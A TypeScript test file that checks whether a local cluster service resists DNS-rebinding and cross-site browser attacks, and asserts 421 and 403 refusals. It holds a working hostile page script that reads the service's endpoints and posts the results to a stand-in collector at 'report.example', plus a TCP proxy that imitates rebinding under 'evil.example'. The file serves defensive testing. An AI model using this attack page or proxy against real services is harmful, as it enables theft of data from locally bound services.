// A real browser with hostile pages: one whose name later resolves to the service (DNS rebinding), and some of other sites. Each
// tries everything a page can, and reports what it could read to a collector.
import { once } from 'node:events';
import { createServer, type IncomingMessage } from 'node:http';
import { type AddressInfo, connect, createServer as createTcpServer, type Server, type Socket } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { openPage, skipsBrowser } from '../support/browser.ts';
import { endPrograms, type Program, startProgram } from '../support/program.ts';

interface Outcome {
  /** The outcome by attempt. */
  readonly [tried: string]: string;
}

const closing: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0).toReversed()) await close();
});
afterAll(() => endPrograms());

async function listen(server: Server): Promise<number> {
  await once(server.listen(0, '127.0.0.1'), 'listening');
  return (server.address() as AddressInfo).port;
}

/** Serves a page, and resolves with its report to `/outcome`. */
async function collector(page: string): Promise<{ port: number; outcome: Promise<Outcome> }> {
  const { promise: outcome, resolve } = Promise.withResolvers<Outcome>();
  const server = createServer(async (request: IncomingMessage, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request as AsyncIterable<Buffer>) chunks.push(chunk);
    if (request.url === '/outcome') resolve(JSON.parse(Buffer.concat(chunks).toString()) as Outcome);
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', 'text/html').end(request.url === '/' ? page : '');
  });
  const port = await listen(server);
  closing.push(() => {
    server.closeAllConnections();
    server.close();
  });
  return { port, outcome };
}

/** The page: tries to read the origin `service`, and reports to `report`. */
function page(service: string, report: string): string {
  const attempts = `
    const service = ${JSON.stringify(service)};
    const read = (path, mode) => async () => {
      const answer = await fetch(service + path, mode);
      const text = await answer.text();
      return answer.status + ' ' + text.slice(0, 2000);
    };
    const element = (tag, attribute, path) => () => new Promise((resolve) => {
      const it = document.createElement(tag);
      it.onload = () => resolve('loaded');
      it.onerror = () => resolve('error');
      it[attribute] = service + path;
      document.body.append(it);
    });
    const stream = () => new Promise((resolve) => {
      const source = new EventSource(service + '/cluster/watch');
      source.onopen = () => resolve('open');
      source.onerror = () => resolve('error');
    });
    const frame = () => new Promise((resolve) => {
      const it = document.createElement('iframe');
      it.onload = () => {
        try { resolve('read ' + it.contentDocument.body.innerText.slice(0, 200)); } catch { resolve('error'); }
      };
      it.src = service + '/cluster';
      document.body.append(it);
    });
    const attempts = {
      cluster: read('/cluster'),
      opaque: read('/cluster', { mode: 'no-cors' }),
      probe: read('/livez'),
      snapshot: read('/snapshot'),
      image: element('img', 'src', '/debug?format=svg'),
      script: element('script', 'src', '/cluster'),
      stream,
      frame,
    };`;
  return `<!doctype html><body><script type="module">${attempts}
    const outcome = {};
    for (const [name, attempt] of Object.entries(attempts))
      outcome[name] = await Promise.race([
        attempt().catch((error) => 'error ' + error.message),
        new Promise((resolve) => setTimeout(resolve, 60000, 'silence')),
      ]);
    await fetch(${JSON.stringify(report)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcome) });
  </script>`;
}

/** A name that resolves to a page first and to `service` from the second request on, as in DNS rebinding. */
async function rebinding(html: string, service: number): Promise<number> {
  const body = `HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: ${Buffer.byteLength(html)}\r\n\r\n${html}`;
  const sockets = new Set<Socket>();
  let served = false;
  const server = createTcpServer((socket) => {
    sockets.add(socket.on('error', () => undefined));
    // Browsers open connections in advance: only the first request shows a connection's purpose.
    socket.once('data', (first: Buffer) => {
      if (!served) {
        served = true;
        return void socket.end(body);
      }
      const through = connect(service, '127.0.0.1').on('error', () => socket.destroy());
      sockets.add(through);
      through.write(first);
      socket.pipe(through).pipe(socket);
    });
  });
  closing.push(() => {
    for (const socket of sockets) socket.destroy();
    server.close();
  });
  return listen(server);
}

const names = { 'evil.example': '127.0.0.1', 'report.example': '127.0.0.1' };
const portOf = ({ url }: Program) => Number(new URL(url).port);

async function rebound(program: Program): Promise<Outcome> {
  const { port: reports, outcome } = await collector('');
  const port = await rebinding(page('', `http://report.example:${reports}/outcome`), portOf(program));
  const browser = openPage(`http://evil.example:${port}/`, names);
  closing.push(() => browser.close());
  return outcome;
}

async function fromAnotherSite(program: Program, host: string): Promise<Outcome> {
  const service = `http://localhost:${portOf(program)}`;
  const { port, outcome } = await collector(page(service, '/outcome'));
  const browser = openPage(`http://${host}:${port}/`, names);
  closing.push(() => browser.close());
  return outcome;
}

const readNothing = (outcome: Outcome) => {
  expect(Object.keys(outcome).length).toBe(8);
  expect(JSON.stringify(outcome)).not.toMatch(/"resources|Pod:|"containers|200 ok|loaded|open/);
};

describe.skipIf(skipsBrowser)('a page of a stranger in a real browser', () => {
  let master: Program;
  beforeAll(async () => {
    master = await startProgram({ args: ['demo', '--demo-life=false'] });
  });

  test('reads nothing of a master on loopback when its name is led there', async () => {
    const outcome = await rebound(master);
    readNothing(outcome);
    expect([outcome['cluster'], outcome['probe']]).toEqual([
      expect.stringMatching(/^421 .*misdirected/),
      expect.stringMatching(/^421 /),
    ]);
  });

  test('would read it under a name that is allowed: the page works', async () => {
    const open = await startProgram({ args: ['demo', '--demo-life=false', '--allowed-hosts', 'evil.example'] });
    await expect.poll(async () => (await fetch(`${open.url}/readyz`)).status).toBe(200);
    const outcome = await rebound(open);
    expect(outcome).toMatchObject({
      cluster: expect.stringMatching(/^200 \{"success":true/),
      probe: '200 ok',
      image: 'loaded',
      stream: 'open',
    });
    await open.end();
  });

  test.each(['evil.example', '127.0.0.1', 'localhost'])('reads nothing from another site: %s', async (host) => {
    const before = master.words().length;
    const outcome = await fromAnotherSite(master, host);
    expect(Object.keys(outcome).length).toBe(8);
    const answered = () => master.words().slice(before);
    await expect.poll(answered).toMatch(/ 403 +\d+ ms {2}GET \/cluster/);
    expect(answered()).not.toMatch(/ 200 +\d+ ms/);
    expect(outcome).toMatchObject({ image: 'error', script: 'error', stream: 'error' });
  });
});
